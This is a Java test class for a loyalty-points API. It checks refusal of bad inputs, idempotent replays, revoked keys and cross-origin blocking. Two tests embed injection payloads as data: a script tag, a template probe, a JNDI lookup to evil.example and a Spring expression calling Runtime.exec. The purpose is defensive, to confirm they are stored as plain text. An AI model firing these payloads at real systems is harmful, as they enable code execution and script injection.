package zhiyin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.context.annotation.Import;
import tools.jackson.databind.JsonNode;
import zhiyin.access.ApiKeys;
import zhiyin.access.IssuedKey;
import zhiyin.database.DatabaseTest;
import zhiyin.http.ApiClient;
import zhiyin.http.ApiClient.Said;
import zhiyin.program.Programmes;

/** What callers send by mistake or on purpose: refused by name, and nothing of it is left behind. */
@DatabaseTest
@Import(TestClock.Installed.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputsTests {
    private static final Path TABLE = Path.of("..", "..", "shared", "checks", "bad_inputs.tsv");

    private final ApplicationContext application;
    private Shop shop;
    private Shop other;
    private BadInputs inputs;

    @Autowired
    BadInputsTests(ApplicationContext application) {
        this.application = application;
    }

    @BeforeAll
    void open() {
        shop = Shop.open(application, "shop");
        other = Shop.open(application, "other");
        inputs = new BadInputs(shop, other);
    }

    Stream<BadInputs.Bad> rows() {
        return inputs.all();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rows")
    void aBadInputIsRefusedByNameAndLeavesNothing(BadInputs.Bad bad) {
        Map<String, String> before = Shop.everything(application);
        Said said = bad.ask().get();
        assertThat(said.status()).as(said.text()).isEqualTo(bad.status());
        assertThat(said.code()).as(said.text()).isEqualTo(bad.code());
        assertThat(said.json().path("type").asString()).isEqualTo("/problems/" + bad.code());
        if (!bad.code().equals("rule-syntax") || !bad.faults().isEmpty()) {
            assertThat(said.faults()).containsExactlyInAnyOrderElementsOf(bad.faults());
        }
        Map<String, String> after = Shop.everything(application);
        if (bad.kept()) {
            // a refusal that its key gets for ever is written down, and nothing else
            List.of("intake.event", "ledger.member_state", "chain.link").forEach(table -> {
                before.remove(table);
                after.remove(table);
            });
        }
        assertThat(after).isEqualTo(before);
    }

    @Test
    void everyRowOfTheTableIsCoveredOrListedWithAReason() throws IOException {
        assumeTrue(Files.exists(TABLE), "the table is not beside this checkout");
        List<String> keys = new ArrayList<>(new TreeSet<>(inputs.all()
                .map(BadInputs.Bad::row)
                .filter(row -> !row.isEmpty())
                .toList()));
        keys.addAll(BadInputs.BY_TESTS.keySet());
        keys.addAll(BadInputs.NOT_ASKED_HERE.keySet());
        List<String> rows = Files.readAllLines(TABLE).stream()
                .skip(1)
                .map(row -> row.split("\t")[0] + ": " + row.split("\t")[1])
                .toList();
        for (String row : rows) {
            assertThat(keys).as("nobody covers: " + row).anyMatch(row::contains);
        }
        for (String key : keys) {
            assertThat(rows.stream().filter(row -> row.contains(key)))
                    .as("rows called: " + key)
                    .hasSize(1);
        }
        for (String test : BadInputs.BY_TESTS.values()) {
            assertThat(Stream.of(BadInputsTests.class.getDeclaredMethods()).map(java.lang.reflect.Method::getName))
                    .contains(test);
        }
    }

    @Test
    void aRepeatGetsTheSameBytesHoweverItsFieldsAreOrdered() {
        String first = Shop.paid("ext:shop:repeat", "repeat-1", 1_200);
        String again = """
                { "order": {"lines": [{"amount": 1200, "quantity": 1, "category": "food", "sku": "sku-1", "id": "1"}],
                  "currency": "CNY", "id": "repeat-1"}, "member": "ext:shop:repeat",   "type": "order.paid" }""";
        Said said = shop.tell("repeat", first);
        Map<String, String> before = Shop.everything(application);
        Said same = shop.tell("repeat", first);
        Said reordered = shop.tell("repeat", again);
        assertThat(said.status()).isEqualTo(201);
        assertThat(said.header("Idempotency-Replayed")).isNull();
        for (Said repeat : List.of(same, reordered)) {
            assertThat(repeat.status()).isEqualTo(201);
            assertThat(repeat.bytes()).isEqualTo(said.bytes());
            assertThat(repeat.header("Idempotency-Replayed")).isEqualTo("true");
        }
        assertThat(Shop.everything(application)).isEqualTo(before);
    }

    @Test
    void aNewKeyForTheSameOrderEarnsNothingTwice() {
        String order = Shop.paid("ext:shop:newkey", "newkey-1", 1_200);
        Said first = shop.tell(order);
        Said again = shop.tell(order);
        assertThat(again.bytes()).isEqualTo(first.bytes());
        assertThat(again.header("Idempotency-Replayed")).isEqualTo("true");
        assertThat(shop.available("ext:shop:newkey")).isEqualTo(12);
    }

    @Test
    void aKeyBelongsToTheApiKeyItCameWith() {
        Programmes programmes = application.getBean(Programmes.class);
        long program = programmes.byCode("shop").orElseThrow().id();
        IssuedKey till = application.getBean(ApiKeys.class).issue(program, "the till");
        Said mine = shop.tell("shared", Shop.did("ext:shop:till", "tap.done"));
        Said tills = shop.api()
                .withKey(till.token())
                .post("/v1/events", Shop.did("ext:shop:till", "tap.done"), "Idempotency-Key", "shared");
        Said others = other.tell("shared", Shop.did("ext:shop:till", "tap.done"));
        for (Said said : List.of(mine, tills, others)) {
            assertThat(said.status()).isEqualTo(201);
            assertThat(said.header("Idempotency-Replayed")).isNull();
        }
        assertThat(mine.json().path("id")).isNotEqualTo(tills.json().path("id"));
        assertThat(shop.available("ext:shop:till")).isEqualTo(2);
        assertThat(other.available("ext:shop:till")).isEqualTo(1);
    }

    @Test
    void aKeyTwiceInOneBulkCountsOnce() {
        String item = Shop.did("ext:shop:bulk", "tap.done").replace("{\"type\"", "{\"key\": \"twice\", \"type\"");
        Said said = shop.api().post("/v1/events/batch", "{\"events\": [" + item + "," + item + "]}");
        assertThat(said.status()).isEqualTo(207);
        assertThat(said.json().at("/results/0/status").asInt()).isEqualTo(201);
        assertThat(said.json().at("/results/1/status").asInt()).isEqualTo(422);
        assertThat(said.json().at("/results/1/problem/code").asString()).isEqualTo("idempotency-key-reused");
        assertThat(shop.available("ext:shop:bulk")).isEqualTo(1);
    }

    @Test
    void aRefusalForWantOfPointsIsGivenAgainToItsKey() {
        shop.told(Shop.did("ext:shop:poor", "gift.given"));
        Said refused = shop.tell("poor", Shop.spent("ext:shop:poor", "poor-1", 101));
        shop.told(Shop.did("ext:shop:poor", "gift.given"));
        Said again = shop.tell("poor", Shop.spent("ext:shop:poor", "poor-1", 101));
        assertThat(refused.code()).isEqualTo("insufficient-balance");
        assertThat(again.code()).isEqualTo("insufficient-balance");
        assertThat(again.header("Idempotency-Replayed")).isEqualTo("true");
        for (String number : List.of("wanted", "available", "detail", "type", "title")) {
            assertThat(again.json().path(number)).isEqualTo(refused.json().path(number));
        }
        assertThat(refused.json().path("wanted").asLong()).isEqualTo(101);
        assertThat(refused.json().path("available").asLong()).isEqualTo(100);
        assertThat(shop.tell(Shop.spent("ext:shop:poor", "poor-1", 101)).status())
                .isEqualTo(201);
        assertThat(shop.available("ext:shop:poor")).isEqualTo(99);
    }

    @Test
    void aNameIsKeptAndShownAsTheTextItIs() {
        for (String name : List.of(
                "<script>alert(1)</script>",
                "{{7*7}}",
                "${jndi:ldap://evil.example/a}",
                "王小明 👩‍👩‍👧 O'Brien \\ \" %s")) {
            String identity = "ext:shop:name-" + Integer.toHexString(name.hashCode());
            Said made = shop.api()
                    .post(
                            "/v1/members",
                            Shop.json(Map.of(
                                    "identities",
                                    List.of(identity),
                                    "name",
                                    name,
                                    "source",
                                    name,
                                    "attributes",
                                    Map.of("favourite", name))),
                            "Idempotency-Key",
                            identity);
            assertThat(made.status()).as(made.text()).isEqualTo(201);
            JsonNode shown = shop.api().get("/v1/members/" + identity).json();
            assertThat(shown.path("name").asString()).isEqualTo(name);
            assertThat(shown.path("source").asString()).isEqualTo(name);
            assertThat(shown.at("/attributes/favourite").asString()).isEqualTo(name);
        }
    }

    @Test
    void aRevokedKeyOpensNothing() {
        ApiKeys keys = application.getBean(ApiKeys.class);
        IssuedKey issued = keys.issue(
                application
                        .getBean(Programmes.class)
                        .byCode("shop")
                        .orElseThrow()
                        .id(),
                "lost");
        ApiClient lost = shop.api().withKey(issued.token());
        assertThat(lost.get("/v1/programs").status()).isEqualTo(200);
        keys.revoke(issued.keyId());
        Map<String, String> before = Shop.everything(application);
        assertThat(lost.get("/v1/programs").code()).isEqualTo("invalid-token");
        assertThat(lost.post("/v1/events", Shop.did("ext:shop:lost", "tap.done"), "Idempotency-Key", "lost")
                        .status())
                .isEqualTo(401);
        assertThat(Shop.everything(application)).isEqualTo(before);
    }

    @Test
    void pagesOfOtherOriginsAreNotLetIn() {
        Said said = shop.api()
                .send(
                        "OPTIONS",
                        "/v1/programs",
                        null,
                        "Origin",
                        "https://evil.example",
                        "Access-Control-Request-Method",
                        "POST");
        assertThat(said.code()).isEqualTo("forbidden");
        Said asked = shop.api().get("/v1/programs", "Origin", "https://evil.example", "Cookie", "session=1");
        assertThat(asked.headers().map().keySet())
                .noneMatch(name -> name.toLowerCase(java.util.Locale.ROOT).startsWith("access-control"));
    }

    @Test
    void aRuleOfWordsThatLookLikeCodeIsOnlyText() {
        String yaml = Shop.yaml("plain")
                .replace("value: [tobacco]", "value: [\"T(java.lang.Runtime).getRuntime().exec('id')\"]");
        Shop plain = Shop.open(application, "plain", yaml);
        plain.told(Shop.paid("ext:shop:1", "o-1", "T(java.lang.Runtime).getRuntime().exec('id')", 1, 1_000));
        assertThat(plain.available("ext:shop:1")).isZero();
        plain.told(Shop.paid("ext:shop:1", "o-2", "tobacco", 1, 1_000));
        assertThat(plain.available("ext:shop:1")).isEqualTo(10);
    }
}
